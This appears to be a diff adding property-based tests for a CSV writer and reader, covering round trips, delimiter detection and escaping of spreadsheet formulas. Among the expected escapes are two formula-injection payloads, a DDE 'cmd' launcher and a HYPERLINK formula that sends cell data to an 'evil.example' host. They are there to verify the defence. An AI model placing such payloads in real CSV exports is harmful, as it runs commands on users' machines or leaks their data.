@@ -1,0 +1,154 @@
+// What we write is safe in a spreadsheet and comes back as it was.
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { readCsv } from "../../../src/csv/read/read-csv.ts";
+import type { Delimiter } from "../../../src/csv/table.ts";
+import { shield, unshield } from "../../../src/csv/text/spreadsheet-escapes.ts";
+import { stringify } from "../../../src/csv/write/stringify.ts";
+import { template } from "../../../src/csv/write/template.ts";
+
+const nasty = fc.constantFrom(
+  ..."=+-@＝＋－＠'\",;|\t\r\n \u00A0\uFEFFaé𝒳0",
+  "\r\n",
+  '""',
+  '",',
+  "sep=;",
+  "\v",
+  "\f",
+  "\u2028",
+);
+const cell = fc.array(nasty, { maxLength: 6 }).map((parts) => parts.join(""));
+const visible = /[^\s\uFEFF]/;
+
+const rowsOf = (columns: number) =>
+  fc.array(
+    fc
+      .array(cell, { minLength: columns, maxLength: columns })
+      .filter((cells) => cells.some((text) => visible.test(text))),
+    { minLength: 1, maxLength: 6 },
+  );
+const rows = fc.integer({ min: 1, max: 4 }).chain(rowsOf);
+const delimiter = fc.constantFrom<Delimiter[]>(",", ";", "\t", "|");
+
+describe("round trip", () => {
+  test("rows come back unchanged through text and through bytes", async () => {
+    await fc.assert(
+      fc.asyncProperty(rows, delimiter, fc.boolean(), async (written, separator, bom) => {
+        const text = stringify(written, { delimiter: separator, bom });
+        for (const input of [text, new TextEncoder().encode(text)]) {
+          const result = await readCsv(input, { delimiter: separator, headerRow: null });
+          expect(result.ok ? result.table.records.map(({ cells }) => cells) : result.issue).toEqual(written);
+        }
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  test("a blank before quotes in a cell stays, also between tabs", async () => {
+    const written = [
+      ["", ' ""'],
+      [' "a"', "b"],
+    ];
+    for (const delimiter of ["\t", ","] as const) {
+      const result = await readCsv(stringify(written, { delimiter }), { delimiter, headerRow: null });
+      expect(result.ok && result.table.records.map(({ cells }) => cells)).toEqual(written);
+    }
+  });
+
+  test("apostrophes before every value of a column stay, with a header and without", async () => {
+    const apostrophes = fc.constantFrom("'a", "'", "'=1", "''b", "=1", "", "c");
+    const column = fc.array(fc.tuple(apostrophes, apostrophes), { minLength: 2, maxLength: 5 });
+    await fc.assert(
+      fc.asyncProperty(column, fc.constantFrom(1, null), async (values, headerRow) => {
+        const written = values.map(([one, other]) => [one, other, "x"]);
+        const result = await readCsv(stringify(written), { delimiter: ",", headerRow });
+        const { headers, records } = result.ok ? result.table : { headers: [], records: [] };
+        const cells = records.map((record) => record.cells);
+        expect(headerRow === null ? cells : [headers, ...cells]).toEqual(written);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  test("the delimiter is found again", async () => {
+    const data = fc.record({ name: cell, delimiter });
+    await fc.assert(
+      fc.asyncProperty(data, async ({ name, delimiter }) => {
+        const written = [
+          ["user_id", "email", "name"],
+          ["1", "a@example.com", name],
+        ];
+        const result = await readCsv(stringify(written, { delimiter }));
+        expect(result.ok && result.table.dialect.delimiter).toBe(delimiter);
+        expect(result.ok && result.table.records[0]?.cells).toEqual(written[1]);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test("a shielded cell is never a formula, and unshielding gives it back", () => {
+    fc.assert(
+      fc.property(cell, (text) => {
+        expect(shield(text)).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
+        expect(unshield(shield(text))).toBe(text);
+      }),
+    );
+  });
+});
+
+describe("what a cell becomes", () => {
+  const cells: [cell: string, written: string][] = [
+    ["plain", "plain"],
+    ["a,b", '"a,b"'],
+    ["a;b", '"a;b"'],
+    ['say "hi"', '"say ""hi"""'],
+    ["two\nlines", '"two\nlines"'],
+    [" padded ", '" padded "'],
+    ["=1+1", "'=1+1"],
+    ["+49 12", "'+49 12"],
+    ["-5", "'-5"],
+    ["@home", "'@home"],
+    ["＝1+1", "'＝1+1"],
+    ["  =1+1", "'  =1+1"],
+    ["\t=1", '"\'\t=1"'],
+    ["\rx", '"\'\rx"'],
+    ["\nx", '"\'\nx"'],
+    ["\n=1", '"\'\n=1"'],
+    ["\u00A0=1", "'\u00A0=1"],
+    ["\u3000＝1", "'\u3000＝1"],
+    ["\uFEFF@x", "'\uFEFF@x"],
+    ["\t \n-1", '"\'\t \n-1"'],
+    ["＋49 12", "'＋49 12"],
+    ["－5", "'－5"],
+    ["＠home", "'＠home"],
+    ["=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""],
+    ['=HYPERLINK("https://evil.example?"&A1)', '"\'=HYPERLINK(""https://evil.example?""&A1)"'],
+    ["'=1+1", "''=1+1"],
+    ["'Ndrangheta", "'Ndrangheta"],
+    ["a@example.com", "a@example.com"],
+    ["2024-01-10", "2024-01-10"],
+    ["00123", "00123"],
+  ];
+  for (const [text, written] of cells) {
+    test(`${JSON.stringify(text)} is written as ${JSON.stringify(written)}`, () => {
+      expect(stringify([["x", text]], { bom: false })).toBe(`x,${written}\r\n`);
+    });
+  }
+
+  test("a single empty cell is still a line", () => {
+    expect(stringify([[""]], { bom: false })).toBe('""\r\n');
+  });
+});
+
+describe("the template", () => {
+  test("is the guide's own example with a byte order mark", () => {
+    expect(template()).toBe(
+      [
+        "\uFEFFuser_id,email,name,registration_date,last_login_date",
+        "legacy_1001,user.one@example.com,User One,2024-01-10T09:00:00Z,2026-04-30T18:21:00Z",
+        "legacy_1002,user.two@example.com,User Two,2023-11-05,2026-05-01",
+        "",
+      ].join("\r\n"),
+    );
+  });
+});
